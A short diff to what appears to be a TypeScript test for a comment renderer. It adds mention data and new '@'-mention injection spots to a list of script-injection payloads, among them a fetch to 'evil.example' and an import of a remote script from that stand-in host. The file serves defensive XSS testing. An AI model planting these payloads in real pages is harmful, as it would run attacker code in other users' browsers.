@@ -32,6 +32,7 @@ const COMMENT: Comment = {
   replies: 0,
   editedAt: null,
   createdAt: "2026-11-27T10:00:00Z",
+  mentions: [{ typed: "ada", handle: "ada" }],
 };
 
 const ACTS = ["alert(1)", "fetch('//evil.example')", "import('https://evil.example/x.js')"];
@@ -63,6 +64,9 @@ const PLACES: ((attack: string) => string)[] = [
   (attack) => `[${attack}](https://example.org/)`,
   (attack) => `[x](${attack})`,
   (attack) => `[x](https://example.org/${attack})`,
+  (attack) => `@ada ${attack}`,
+  (attack) => `@ada"${attack}`,
+  (attack) => `@${attack}`,
 ];
 
 function draw(changes: Partial<Comment>): Document {
